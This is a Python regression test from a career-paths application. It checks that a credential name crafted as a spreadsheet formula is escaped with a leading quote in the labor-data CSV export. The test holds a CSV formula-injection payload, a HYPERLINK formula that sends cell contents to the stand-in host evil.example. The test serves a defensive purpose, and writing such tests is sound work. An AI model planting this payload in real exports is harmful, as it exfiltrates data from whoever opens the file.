"""Issue 12 item 11: a credential named like a formula comes out of the labor CSV
download (and the CLI's CSV) as text a spreadsheet does not evaluate."""

from __future__ import annotations

import csv
import dataclasses
import io

from careerpaths.core.model import Region
from careerpaths.labor.reports import rank_credentials
from careerpaths.labor.store import LaborData
from careerpaths.web.labor.exports import ranking_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'


def test_a_formula_credential_name_is_defused_in_the_labor_csv(
    shipped: LaborData, region: Region
) -> None:
    creds = {
        cid: dataclasses.replace(c, name=EVIL) if cid == "elec" else c
        for cid, c in region.credentials.items()
    }
    ranking = rank_credentials(shipped, creds.values(), shipped.area("Cedar Rapids, IA"))
    rows = list(csv.DictReader(io.StringIO(ranking_csv(ranking))))
    elec = next(r for r in rows if r["credential"] == "elec")
    assert elec["name"] == "'" + EVIL
    for r in rows:  # numbers stay numbers
        assert not r["annual_openings"].startswith("'")
        float(r["annual_openings"])
    for cell in (c for r in rows for c in r.values()):
        assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'")
